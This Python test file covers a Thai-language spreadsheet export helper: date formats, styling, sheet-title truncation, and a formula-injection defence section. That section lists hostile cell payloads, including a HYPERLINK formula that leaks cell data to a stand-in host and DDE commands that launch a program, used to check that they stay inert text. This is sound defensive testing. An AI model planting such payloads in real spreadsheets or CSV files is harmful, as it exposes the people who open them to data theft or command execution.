import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.documents.xlsx import (
    BE_DATE_FORMAT,
    BE_DATE_FORMAT_SHORT,
    BE_DATETIME_FORMAT,
    MONEY_FORMAT,
    new_workbook,
    sheet_title,
    unique_sheet_title,
    workbook_bytes,
    write_table,
)

HEADERS = ["ลำดับ", "งานที่จัดซื้อหรือจัดจ้าง", "วงเงิน (บาท)", "วันที่", "บันทึกเมื่อ"]
ROWS = [
    [
        1,
        "จัดซื้อวัสดุสำนักงาน",
        Decimal("12500.50"),
        date(2017, 1, 31),
        datetime(2017, 1, 31, 7, 5, tzinfo=UTC),
    ],
    [2, "จ้างเหมาบริการทำความสะอาดอาคาร", Decimal(480000), date(2016, 10, 1), None],
]


def written_sheet(**kwargs):
    workbook = new_workbook("สรุปผล สขร.1")
    last = write_table(workbook.active, HEADERS, ROWS, [8, 40, 16, 22, 22], **kwargs)
    reread = load_workbook(io.BytesIO(workbook_bytes(workbook)))
    return reread.active, last


def test_dates_stay_dates_with_the_be_format():
    ws, last = written_sheet()
    assert last == 3
    cell = ws["D2"]
    assert cell.is_date
    assert cell.value.date() == date(2017, 1, 31)
    assert cell.number_format == BE_DATE_FORMAT == "[$-107041E]d mmmm yyyy;@"
    assert ws["D3"].value.date() == date(2016, 10, 1)


def test_aware_datetimes_are_stored_as_bangkok_wall_time():
    ws, _ = written_sheet()
    assert ws["E2"].value == datetime(2017, 1, 31, 14, 5)
    assert ws["E2"].number_format == BE_DATETIME_FORMAT
    assert ws["E3"].value is None


def test_short_date_format_option_and_money():
    ws, _ = written_sheet(date_format=BE_DATE_FORMAT_SHORT)
    assert ws["D2"].number_format == BE_DATE_FORMAT_SHORT
    assert ws["C2"].value == 12500.5
    assert ws["C2"].number_format == MONEY_FORMAT
    assert ws["A2"].number_format == "General"


def test_header_styling_widths_freeze_and_filter():
    ws, _ = written_sheet()
    assert [cell.value for cell in ws[1]] == HEADERS
    header = ws["B1"]
    assert header.font.b and header.font.name == "Tahoma"
    assert header.fill.fgColor.rgb.endswith("D9E2F3")
    assert header.alignment.wrap_text
    assert ws["B2"].alignment.wrap_text and ws["B2"].font.name == "Tahoma" and not ws["B2"].font.b
    assert ws.column_dimensions["B"].width == 40
    assert ws.column_dimensions["E"].width == 22
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:E3"
    assert ws.title == "สรุปผล สขร.1"


def test_table_below_a_title_row():
    workbook = new_workbook()
    ws = workbook.active
    ws["A1"] = "แบบ สขร.1"
    last = write_table(ws, ["ก", "ข"], [["x", date(2017, 1, 31)]], [10, 20], start_row=3, font_name="Sarabun")
    assert last == 4
    assert ws.freeze_panes == "A4"
    assert ws["A3"].font.name == "Sarabun"
    assert ws["B4"].number_format == BE_DATE_FORMAT


def test_widths_must_match_headers():
    with pytest.raises(ValueError):
        write_table(new_workbook().active, ["ก", "ข"], [], [10])


def test_sheet_titles_are_made_valid():
    assert sheet_title("รายงาน/ประจำเดือน [มกราคม]") == "รายงาน ประจำเดือน  มกราคม"
    assert len(sheet_title("ก" * 40)) <= 31
    assert sheet_title("///") == "Sheet"


def test_long_thai_sheet_titles_are_cut_between_words():
    assert sheet_title("6. การสื่อสารภายในหน่วยงานและการสื่อสารภายนอก") == "6. การสื่อสารภายในหน่วยงาน"
    assert sheet_title("ก" * 28 + "ที่นี่") == "ก" * 28  # ที่นี่ is one word: no "ที่" left of it
    assert sheet_title("1. " + "ก" * 27 + "ที่") == "1. " + "ก" * 27
    # A single word longer than the limit is cut between character clusters, never inside one.
    assert sheet_title("1. Integrityandtransparencyassessment") == "1. Integrityandtransparencyasse"
    assert sheet_title("1. ประ" + "ก" * 24 + "เป็น") == "1. ประ" + "ก" * 24  # no "เ" left without its letter


def test_sheet_titles_stay_unique_in_a_workbook():
    taken: set[str] = set()
    long_name = "นโยบายด้านการสื่อสารภายในหน่วยงานและการประเมินผล"
    first = unique_sheet_title(long_name, taken)
    second = unique_sheet_title(long_name + "ภายนอก", taken)
    third = unique_sheet_title(long_name.upper(), taken)
    assert first == "นโยบายด้านการสื่อสารภายใน"
    assert second == "นโยบายด้านการสื่อสารภายใน (2)"
    assert third == "นโยบายด้านการสื่อสารภายใน (3)"
    assert all(len(t) <= 31 for t in (first, second, third))
    assert unique_sheet_title("Summary", taken) == "Summary"
    assert unique_sheet_title("SUMMARY", taken) == "SUMMARY (2)"  # Excel compares names case-insensitively


# --- formula injection ----------------------------------------------------------------------------

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_text_that_looks_like_a_formula_stays_text_in_every_cell_written():
    from core.documents.xlsx import guard_cell  # noqa: F401  (the helper every writer uses)

    workbook = new_workbook("สรุปผล")
    ws = workbook.active
    ws["A1"] = MALICIOUS[0]  # a title written outside write_table
    write_table(ws, ["เรื่อง"], [[text] for text in MALICIOUS], [40], start_row=3)
    reread = load_workbook(io.BytesIO(workbook_bytes(workbook))).active
    cells = [reread["A1"], *[reread.cell(row=4 + i, column=1) for i in range(len(MALICIOUS))]]
    assert [c.value for c in cells] == [MALICIOUS[0], *MALICIOUS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert reread["A3"].value == "เรื่อง" and not reread["A3"].quotePrefix


def test_streaming_sheets_guard_their_cells_without_touching_the_shared_style():
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    from core.documents.xlsx import safe_cell

    workbook = Workbook(write_only=True)
    ws = workbook.create_sheet("x")
    shared = WriteOnlyCell(ws)
    shared.number_format = "@"
    styled = WriteOnlyCell(ws, value="=1+1")
    styled._style = shared._style
    plain = WriteOnlyCell(ws, value="ข้อความธรรมดา")
    plain._style = shared._style
    ws.append([safe_cell(ws, v) for v in ("=2+2", styled, plain, 5, None)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [c.value for c in row[:4]] == ["=2+2", "=1+1", "ข้อความธรรมดา", 5]
    assert [c.data_type for c in row[:3]] == ["s", "s", "s"]
    assert row[1].quotePrefix and not row[2].quotePrefix


def test_csv_fields_are_neutralised_and_numbers_kept():
    import csv

    from core.documents.xlsx import SafeCsvWriter, csv_value

    assert csv_value("=1+1") == "'=1+1" and csv_value("@SUM(A1)") == "'@SUM(A1)"
    assert csv_value("\t=1") == "'\t=1" and csv_value("+66 81") == "'+66 81"
    assert csv_value("-1250.50") == "-1250.50" and csv_value("ซื้อ = จ้าง") == "ซื้อ = จ้าง" and csv_value(7) == 7
    buffer = io.StringIO()
    SafeCsvWriter(csv.writer(buffer)).writerow(["=cmd|' /C calc'!A0", "ปกติ"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=cmd|' /C calc'!A0", "ปกติ"]
